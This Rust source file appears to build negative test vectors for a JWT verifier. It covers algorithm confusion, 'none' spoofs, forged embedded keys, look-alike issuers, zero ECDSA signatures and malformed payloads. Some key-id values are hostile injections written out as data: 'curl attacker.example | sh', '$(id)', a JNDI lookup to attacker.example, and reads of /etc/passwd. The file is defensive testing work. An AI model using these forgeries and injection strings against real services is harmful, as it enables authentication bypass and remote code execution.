//! More of what was tried on others: algorithm confusion in each encoding of the public key, names that are paths,
//! addresses that look alike, numbers that are none.

use aws_lc_rs::encoding::AsDer as _;
use aws_lc_rs::signature::{ParsedPublicKey, RSA_PKCS1_2048_8192_SHA256, RsaPublicKeyComponents};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use cedar_gate::jose::Algorithm;
use serde_json::{Value, json};

use super::{
    ACME, COGNITO_HEADER, NOW, P256_HEADER, PARTNER, RSA_HEADER, Vectors, base64url, bytes, cognito,
    hmac_signed, key, partner, partner_answer, replaced, sign, sign_with, unsigned,
};

pub(super) fn add(v: &mut Vectors) {
    algorithms(v);
    keys(v);
    key_ids(v);
    issuers(v);
    signatures(v);
    payloads(v);
}

const NONE: &str =
    "the token's `alg` is none of RS256, RS384, RS512, PS256, PS384, PS512, ES256, ES384, EdDSA";

fn algorithms(v: &mut Vectors) {
    for (name, about, alg) in [
        ("none-escaped", "`none` with an escaped letter", r"n\u006fne"),
        ("none-look-alike", "`none` with a Cyrillic letter", "n\u{43e}ne"),
        ("none-full-width", "`none` in full width", "\u{ff4e}\u{ff4f}\u{ff4e}\u{ff45}"),
        ("none-tab", "`none` with a tab", r"none\t"),
        ("none-invisible", "`none` with an invisible letter", "no\u{200b}ne"),
        ("none-comma", "`none` among others", "RS256,none"),
        ("hs256-lower-case", "an HMAC in lower case", "hs256"),
        ("hs256-space", "an HMAC with a space", "HS256 "),
        ("rs0", "no hash", "RS0"),
        ("rsnull", "a name that ends early", r"RS256\u0000"),
        ("es256-der", "a name of another standard", "SHA256withECDSA"),
        ("oid", "a number of another standard", "1.2.840.113549.1.1.11"),
    ] {
        let header = format!(r#"{{"alg":"{alg}","typ":"at+jwt","kid":"partner-rsa"}}"#);
        v.refuse_header(&format!("alg-{name}"), about, &header, "wrong_algorithm", NONE);
    }
    // CVE-2015-9235 and its kin: the verifier's public key as the secret of an HMAC.
    let jwk = key("acme-1").public_jwk();
    let (n, e) = (bytes(jwk["n"].as_str().unwrap()), bytes(jwk["e"].as_str().unwrap()));
    let components = RsaPublicKeyComponents { n: &n, e: &e };
    let parsed: ParsedPublicKey = components.to_parsed_public_key(&RSA_PKCS1_2048_8192_SHA256).unwrap();
    let public: aws_lc_rs::encoding::PublicKeyX509Der<'_> = parsed.as_der().unwrap();
    let der = public.as_ref().to_vec();
    let pem = |der: &[u8], end: &str| {
        let lines: Vec<String> = STANDARD
            .encode(der)
            .as_bytes()
            .chunks(64)
            .map(|line| String::from_utf8(line.to_vec()).unwrap())
            .collect();
        format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----{end}", lines.join("\n"))
    };
    let set = json!({ "keys": [jwk.clone()] }).to_string();
    let header = r#"{"alg":"HS256","kid":"acme-1"}"#;
    let claims = cognito(json!({})).to_string();
    for (name, about, secret) in [
        ("der", "HMAC with the public key in DER as secret", der.clone()),
        ("pem", "HMAC with the public key in PEM as secret", pem(&der, "\n").into_bytes()),
        ("pem-no-newline", "the same without a line end", pem(&der, "").into_bytes()),
        ("base64", "HMAC with the public key's text as secret", STANDARD.encode(&der).into_bytes()),
        (
            "n-text",
            "HMAC with the text of the modulus as secret",
            jwk["n"].as_str().unwrap().as_bytes().to_vec(),
        ),
        ("jwks", "HMAC with the whole key set as secret", set.into_bytes()),
        ("kid", "HMAC with the key's name as secret", b"acme-1".to_vec()),
    ] {
        let token = hmac_signed(header, &claims, &secret);
        v.refuse(&format!("alg-hs256-{name}"), about, token, "wrong_algorithm", NONE);
    }
    let embedded = json!({
        "alg": "HS256",
        "kid": "acme-1",
        "jwk": { "kty": "oct", "k": base64url(b"0123456789abcdef0123456789abcdef"), "kid": "acme-1" },
    });
    let token = hmac_signed(&embedded.to_string(), &claims, b"0123456789abcdef0123456789abcdef");
    v.refuse(
        "alg-hs256-embedded",
        "HMAC with a secret that the header brings",
        token,
        "wrong_algorithm",
        NONE,
    );
}

fn keys(v: &mut Vectors) {
    let thumbprint = "JN6R9JNlNPZBGIPLLtcAj8sQyyPyPeUDFBOZmrYkpGw";
    let own = key("partner-rsa");
    let payload = partner(json!({})).to_string();
    let with = |parameter: &str, value: Value| {
        json!({ "alg": "RS256", "typ": "at+jwt", "kid": "partner-rsa", parameter: value }).to_string()
    };
    for (name, about, header) in [
        ("x5t", "a thumbprint is not read", with("x5t", json!("i6lGk3FZzxRcUb2C3nEQ7syHJlY"))),
        ("x5t-sha256", "a thumbprint with SHA-256 is not read", with("x5t#S256", json!(thumbprint))),
        ("own-jwk", "the issuer's own key in the header is not read", with("jwk", own.public_jwk())),
        ("cty", "a content type is not read", with("cty", json!("JWT"))),
        ("iss-in-header", "claims that are repeated in the header are not read", with("iss", json!(ACME))),
    ] {
        v.accept(
            &format!("oidc-{name}-ignored"),
            about,
            sign(&own, &header, &payload),
            partner_answer("partner-rsa"),
        );
    }
    let attacker = key("attacker-rs256");
    let mut jwk = attacker.public_jwk();
    jwk["kid"] = json!("partner-rsa");
    jwk["x5t#S256"] = json!(thumbprint);
    for (name, about, header) in [
        ("x5t", "the thumbprint of the attacker's certificate", with("x5t#S256", json!(thumbprint))),
        (
            "embedded-jwk-same-kid",
            "the attacker's key in the header under the issuer's name",
            with("jwk", jwk),
        ),
        (
            "jku-data",
            "the attacker's key set inside its address",
            with("jku", json!("data:application/json,{}")),
        ),
        (
            "jku-own-host",
            "an address at the issuer's host",
            with("jku", json!("https://idp.partner.example/upload/1")),
        ),
        ("x5u-file", "a file as address", with("x5u", json!("file:///proc/self/environ"))),
    ] {
        let token = sign(&attacker, &header, &payload);
        v.refuse(&format!("key-{name}"), about, token, "bad_signature", "the signature is not valid");
    }
}

fn key_ids(v: &mut Vectors) {
    let payload = partner(json!({})).to_string();
    for (name, about, kid, shown) in [
        ("dev-null", "the empty file", "/dev/null", "/dev/null"),
        ("file-url", "a file as address", "file:///etc/passwd", "file:///etc/passwd"),
        ("backslashes", "a path of another system", "..\\..\\windows\\win.ini", "..\\..\\windows\\win.ini"),
        ("dot-segments", "a path that leads to our key", "x/../partner-rsa", "x/../partner-rsa"),
        ("percent", "our key in percent encoding", "partner%2Drsa", "partner%2Drsa"),
        ("nul", "our key with a zero byte and more", "partner-rsa\0.pem", "partner-rsa\\u{0}.pem"),
        ("newline", "our key with a line break", "partner-rsa\n", "partner-rsa\\u{a}"),
        ("star", "any key", "*", "*"),
        ("pattern", "a pattern for our key", "partner-.*", "partner-.*"),
        ("command", "a command", "x; curl attacker.example | sh", "x; curl attacker.example | sh"),
        ("substitution", "a command in a substitution", "$(id)`id`", "$(id)\\u{60}id\\u{60}"),
        ("lookup", "a look-up", "${jndi:ldap://attacker.example/a}", "${jndi:ldap://attacker.example/a}"),
        ("template", "a template", "{{7*7}}", "{{7*7}}"),
        ("prototype", "the name of a prototype", "__proto__", "__proto__"),
        ("index", "the place of a key in the set", "0", "0"),
        ("key-set", "the name of a key set of ours", "acme-regions@2", "acme-regions@2"),
        ("full-width", "our key in full width", "\u{ff50}artner-rsa", "\\u{ff50}artner-rsa"),
        ("composed", "a letter in two parts", "p\u{61}\u{301}rtner-rsa", "pa\\u{301}rtner-rsa"),
        ("invisible", "an invisible letter", "partner\u{ad}-rsa", "partner\\u{ad}-rsa"),
        ("reversed", "letters that are shown in reverse", "\u{202e}asr-rentrap", "\\u{202e}asr-rentrap"),
    ] {
        let header = json!({ "alg": "RS256", "typ": "at+jwt", "kid": kid }).to_string();
        let token = sign(&key("attacker-rs256"), &header, &payload);
        let message = format!("issuer `partner` has no key `{shown}`");
        v.refuse(&format!("kid-{name}"), about, token, "unknown_key", &message);
    }
}

fn issuers(v: &mut Vectors) {
    for (name, about, iss, shown) in [
        ("punycode", "a look-alike in its own encoding", "https://idp.xn--prtner-4nf.example/", None),
        (
            "user-information",
            "our host as a user's name",
            "https://idp.partner.example@attacker.example/",
            None,
        ),
        ("trailing-dot", "the host with a dot at its end", "https://idp.partner.example./", None),
        ("query", "a query behind it", "https://idp.partner.example/?tenant=acme", None),
        ("fragment", "a fragment behind it", "https://idp.partner.example/#", None),
        ("dot-segment", "a path that means the same", "https://idp.partner.example/./", None),
        ("double-slash", "a slash twice", "https://idp.partner.example//", None),
        ("percent", "a letter in percent encoding", "https://idp.%70artner.example/", None),
        ("scheme-case", "the scheme in capitals", "HTTPS://idp.partner.example/", None),
        ("backslash", "backslashes", "https:\\\\idp.partner.example\\", None),
        ("sub-domain", "a host that begins like ours", "https://idp.partner.example.attacker.example/", None),
        ("space-after", "a space behind it", "https://idp.partner.example/ ", None),
        ("two", "two issuers in one string", "https://idp.partner.example/ https://attacker.example/", None),
        (
            "newline",
            "a line break behind it",
            "https://idp.partner.example/\n",
            Some("https://idp.partner.example/\\u{a}"),
        ),
        (
            "nul",
            "a zero byte and more",
            "https://idp.partner.example/\0.attacker.example",
            Some("https://idp.partner.example/\\u{0}.attacker.example"),
        ),
        (
            "full-width-solidus",
            "slashes in full width",
            "https:\u{ff0f}\u{ff0f}idp.partner.example\u{ff0f}",
            Some("https:\\u{ff0f}\\u{ff0f}idp.partner.example\\u{ff0f}"),
        ),
        (
            "ideographic-stop",
            "dots of another script",
            "https://idp\u{3002}partner\u{3002}example/",
            Some("https://idp\\u{3002}partner\\u{3002}example/"),
        ),
        (
            "invisible",
            "an invisible letter",
            "https://idp.part\u{200d}ner.example/",
            Some("https://idp.part\\u{200d}ner.example/"),
        ),
        (
            "composed",
            "a letter in two parts",
            "https://idp.p\u{61}\u{300}rtner.example/",
            Some("https://idp.pa\\u{300}rtner.example/"),
        ),
        (
            "reversed",
            "letters that are shown in reverse",
            "https://\u{202e}elpmaxe.rentrap.pdi/",
            Some("https://\\u{202e}elpmaxe.rentrap.pdi/"),
        ),
        (
            "bom",
            "a byte order mark",
            "\u{feff}https://idp.partner.example/",
            Some("\\u{feff}https://idp.partner.example/"),
        ),
    ] {
        let message = format!("issuer `{}` is not trusted", shown.unwrap_or(iss));
        v.refuse_partner(&format!("iss-{name}"), about, json!({ "iss": iss }), "unknown_issuer", &message);
    }
    let twice = partner(json!({})).to_string().replacen('{', &format!(r#"{{"is\u0073":"{PARTNER}","#), 1);
    let token = sign(&key("partner-rsa"), RSA_HEADER, &twice);
    v.malformed("iss-twice", "the issuer twice, once in escapes", token, "its payload has a member twice");
}

fn signatures(v: &mut Vectors) {
    let claims = partner(json!({})).to_string();
    let p384 = r#"{"alg":"ES384","typ":"at+jwt","kid":"partner-es384"}"#;
    let ecdsa = bytes(sign(&key("partner-es384"), p384, &claims).rsplit_once('.').unwrap().1);
    let (r, s) = ecdsa.split_at(48);
    let order = [vec![0xff; 24], bytes("x2NNgfQ3Ld9YGg2ySLCneuzsGWrMxSlz")].concat();
    for (name, about, signature) in [
        ("zero-zero", "r and s are 0 (CVE-2022-21449)", vec![0; 96]),
        ("r-zero", "r is 0", [&[0; 48], s].concat()),
        ("s-zero", "s is 0", [r, &[0; 48]].concat()),
        ("order", "r and s are the order of the curve", [&order[..], &order].concat()),
        ("p256-size", "a signature of P-256's size", vec![0; 64]),
    ] {
        let token = unsigned(p384, &claims, &signature);
        v.refuse(&format!("ecdsa-384-{name}"), about, token, "bad_signature", "the signature is not valid");
    }
    let stripped = sign_with(&key("partner-rsa"), Algorithm::Rs256, RSA_HEADER.as_bytes(), claims.as_bytes());
    let (message, _) = stripped.rsplit_once('.').unwrap();
    v.malformed(
        "signature-stripped",
        "the signature taken out, its dot left",
        format!("{message}."),
        "its signature is empty",
    );
    v.refuse(
        "signature-one-byte",
        "a signature of one byte",
        format!("{message}.AA"),
        "bad_signature",
        "the signature is not valid",
    );
    // (r, n - s) verifies as (r, s) does, and RFC 7518 §3.4 has no rule against it: a token has more than one spelling, so
    // nothing may be keyed by a signature.
    let good = sign(&key("partner-es256"), P256_HEADER, &claims);
    let signature = bytes(good.rsplit_once('.').unwrap().1);
    let (r, s) = signature.split_at(32);
    let other = [r, &minus(&bytes("_____wAAAAD__________7zm-q2nF56E87nKwvxjJVE"), s)].concat();
    v.accept(
        "ecdsa-other-s",
        "the other s of the same signature",
        unsigned(P256_HEADER, &claims, &other),
        partner_answer("partner-es256"),
    );
}

/// `one` less `other`, of the same length, big-endian.
fn minus(one: &[u8], other: &[u8]) -> Vec<u8> {
    let mut borrow = 0;
    let digits = one.iter().zip(other).rev().map(|(one, other)| {
        let difference = i16::from(*one) - i16::from(*other) - borrow;
        borrow = i16::from(difference < 0);
        difference.rem_euclid(256) as u8
    });
    let mut digits: Vec<u8> = digits.collect();
    digits.reverse();
    digits
}

fn payloads(v: &mut Vectors) {
    let signed = |payload: &str| sign(&key("acme-1"), COGNITO_HEADER, payload);
    let text = cognito(json!({ "exp": 1 })).to_string();
    for (name, about, exp) in [
        ("exp-beyond", "1e400 seconds", "1e400".to_owned()),
        ("exp-beyond-negative", "as many before 1970", "-1e400".to_owned()),
        ("exp-digits", "a number of 400 digits", "9".repeat(400)),
        ("exp-infinity", "no number", "Infinity".to_owned()),
        ("exp-hexadecimal", "a number in base 16", "0x6B000000".to_owned()),
        ("exp-leading-zero", "a zero before the number", format!("0{}", NOW + 60)),
        ("exp-plus", "a sign that numbers do not have", format!("+{}", NOW + 60)),
        ("exp-underscores", "a number in groups", "1_795_257_900".to_owned()),
        ("exp-other-digits", "digits of another script", "\u{661}\u{667}\u{669}\u{665}".to_owned()),
        ("exp-comma", "a decimal comma", "1795257900,5".to_owned()),
    ] {
        let payload = text.replace("\"exp\":1,", &format!("\"exp\":{exp},"));
        assert_ne!(payload, text);
        v.malformed(name, about, signed(&payload), "its payload is not JSON");
    }
    for (name, about, exp, shown) in [
        ("exp-tiny", "a number that is nearly 0", "1e-400", "1970-01-01T00:00:00Z"),
        ("exp-exponent-past", "a moment in 2001, with an exponent", "1E+9", "2001-09-09T01:46:40Z"),
    ] {
        let payload = text.replace("\"exp\":1,", &format!("\"exp\":{exp},"));
        let message = format!("the token expired at {shown}, and it is 2026-11-21T10:00:00Z");
        v.refuse(name, about, signed(&payload), "expired", &message);
    }
    let good = cognito(json!({})).to_string();
    for (name, about, payload, what) in [
        ("bom", "a byte order mark", format!("\u{feff}{good}"), "its payload is not JSON"),
        ("nul-after", "a zero byte behind the claims", format!("{good}\0"), "its payload is not JSON"),
        ("comment", "a comment", good.replacen('{', "{/* */", 1), "its payload is not JSON"),
        ("trailing-comma", "a comma too many", good.replace('}', ",}"), "its payload is not JSON"),
        (
            "bare-names",
            "names without quotation marks",
            "{exp:9999999999}".to_owned(),
            "its payload is not JSON",
        ),
        ("null", "no claims, said so", "null".to_owned(), "its payload is not a JSON object"),
        ("number", "a number", "1795257900".to_owned(), "its payload is not a JSON object"),
        (
            "control",
            "a control character in a string",
            "{\"sub\":\"a\u{1}b\"}".to_owned(),
            "its payload is not JSON",
        ),
        (
            "empty-object-twice",
            "an empty name twice",
            r#"{"":1,"":2}"#.to_owned(),
            "its payload has a member twice",
        ),
        (
            "twice-among-many",
            "a member twice among a hundred",
            format!("{{{},\"m7\":0}}", (0..100).map(|i| format!("\"m{i}\":0")).collect::<Vec<_>>().join(",")),
            "its payload has a member twice",
        ),
        (
            "bomb-of-objects",
            "1,000 objects in each other",
            format!("{}1{}", r#"{"a":"#.repeat(1000), "}".repeat(1000)),
            "its payload nests too deep",
        ),
        (
            "bomb-mixed",
            "arrays and objects in each other",
            format!("{{\"a\":{}1{}}}", r#"[{"a":"#.repeat(8), "}]".repeat(8)),
            "its payload nests too deep",
        ),
    ] {
        v.malformed(&format!("payload-{name}"), about, signed(&payload), what);
    }
    let utf16: Vec<u8> = good.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let token = sign_with(&key("acme-1"), Algorithm::Rs256, COGNITO_HEADER.as_bytes(), &utf16);
    v.malformed("payload-utf-16", "claims in UTF-16", token, "its payload is not JSON");
    let space = good.replacen('{', " \r\n\t{ ", 1);
    v.accept(
        "cognito-payload-space",
        "white space around the claims",
        signed(&space),
        replaced(super::cognito_answer(), json!({})),
    );
}
